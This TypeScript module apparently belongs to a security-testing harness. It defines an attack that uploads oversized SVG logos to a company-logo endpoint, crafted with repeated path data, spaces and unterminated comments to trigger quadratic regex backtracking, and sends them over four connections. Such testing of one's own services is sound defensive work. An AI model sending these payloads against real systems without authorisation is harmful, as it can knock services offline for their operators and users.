import { fileBody } from '../../installation/HttpClient';
import { repeat } from '../attacker/repeat';
import type { Attack } from '../Attack';
import { svg } from './svg';

const bytes = 240_000;
const fill = (text: string): string => text.repeat(Math.floor(bytes / text.length));

/** Each text makes a backtracking pattern take quadratic time. */
const logos = [
  svg(`<path d="${fill('a')}"/>`),
  svg(`<path d="M0 0${fill(' ')}x"/>`),
  svg(`<rect width="9" height="9" style="${fill('/*a')}"/>`),
  svg(`<style>${fill('/*a/*a')}</style><rect width="9" height="9"/>`),
  svg(`<rect width="9" height="9" fill="url(${fill(' ')}"/>`),
  svg(`<rect width="9" height="9" transform="${fill('1 ')}"/>`),
];

export const hostileText: Attack = {
  name: 'svg-text',
  what: 'SVG logos of 240 kB: letters as a path, runs of spaces, comments that never end; 4 connections',
  run: async (attacker, signal) => {
    const uploads = await Promise.all(
      logos.map((logo) => fileBody('logo', Buffer.from(logo), 'logo.svg', 'image/svg+xml')),
    );
    await repeat(attacker, 4, signal, (turn) =>
      attacker.send({ path: '/api/company/logo', method: 'PUT', ...uploads[turn % uploads.length] }),
    );
  },
};
